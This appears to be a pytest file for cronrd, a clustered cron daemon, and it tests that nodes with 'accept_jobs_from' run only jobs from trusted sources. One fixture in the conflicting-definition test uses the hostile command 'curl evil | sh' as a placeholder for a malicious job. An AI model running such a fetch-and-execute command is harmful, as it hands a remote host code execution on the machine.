"""accept_jobs_from: a node that runs only the job files it (or nodes it
names) defines, whatever other members define (issue 9)."""

from __future__ import annotations

import pytest
import yaml

from cronrd.config import parse_config
from cronrd.errors import ConfigError
from cluster_harness import fire_records
from harness import wait_for

BASE = {"node_id": "c", "data_dir": "/var/lib/x", "jobs_dir": "/etc/x.d", "socket": "/run/x.sock",
        "log_dir": "/var/log/x"}


def test_self_names_this_node_and_bad_values_are_refused():
    assert parse_config({**BASE, "accept_jobs_from": ["self", "a"]}).accept_jobs_from == ("a", "c")
    assert parse_config({**BASE, "accept_jobs_from": "self"}).accept_jobs_from == ("c",)
    assert parse_config(BASE).accept_jobs_from is None
    for bad in ([], [""], [1], {"a": 1}):
        with pytest.raises(ConfigError, match="accept_jobs_from"):
            parse_config({**BASE, "accept_jobs_from": bad})


@pytest.mark.integration
def test_a_node_that_accepts_only_its_own_jobs_skips_another_members_job(cluster):
    c = cluster(first_ip=121)
    strict = c["c"]
    strict.config["accept_jobs_from"] = ["self"]
    strict.config_path.write_text(yaml.safe_dump(strict.config))
    c.start()
    c["a"].write_job("everywhere", {"schedule": "* * * * * *", "command": "true",
                                    "run_on": "all", "concurrency": "allow"})
    strict.write_job("mine", {"schedule": "* * * * * *", "command": "true", "run_on": "c",
                              "concurrency": "allow"})

    def seen():
        runs = c["a"].runs()
        mine = [r for r in fire_records(runs, "mine") if r["state"] == "succeeded"]
        everywhere = fire_records(runs, "everywhere")
        on_c = [r for r in everywhere if r["node"] == "c" and r["state"] == "skipped"]
        on_ab = [r for r in everywhere if r["node"] in ("a", "b")
                 and r["state"] == "succeeded"]
        return (mine and on_c and on_ab) and on_c
    skipped = wait_for(seen, 30, what="c skipping a's job and running its own",
                       on_fail=c.logs)
    assert "accept_jobs_from" in skipped[0]["reason"] and "comes from a" in skipped[0]["reason"]
    assert not [r for r in fire_records(c["a"].runs(), "everywhere")
                if r["node"] == "c" and r["state"] == "succeeded"]



def test_a_conflicting_definition_in_force_from_another_node_is_not_accepted(tmp_path):
    """Review: b defined `backup` first with its own command; a's file for the
    same name conflicts, so b's version stays in force. Being one of the
    job's sources must not make a (with accept_jobs_from: [self]) run it."""
    import apsw

    from cronrd.jobspec import parse_job_text
    from cronrd.state import commands as C
    from cronrd.state import queries as Q
    from cronrd.state.machine import StateMachine

    def put(node, command, at):
        (spec,) = parse_job_text(f"schedule: '@daily'\ncommand: {command}\n",
                                 "/etc/cronrd.d/backup.yaml").jobs
        return C.PutJob(name="backup", spec=spec.to_dict(), digest=spec.digest(),
                        source="/etc/cronrd.d/backup.yaml", at=at, node=node)
    sm = StateMachine(apsw.Connection(str(tmp_path / "s.db")))
    with sm.conn:
        sm.apply(1, put("b", "curl evil | sh", 1.0))
        sm.apply(2, put("a", "/usr/local/bin/backup", 2.0))
    assert set(Q.job_source_nodes(sm.conn, "backup")) == {"a", "b"}
    assert not Q.in_force_from(sm.conn, "backup", ["a"])
    assert Q.in_force_from(sm.conn, "backup", ["b"])
    with sm.conn:
        sm.apply(3, put("b", "/usr/local/bin/backup", 3.0))  # they agree again
    assert Q.in_force_from(sm.conn, "backup", ["a"])
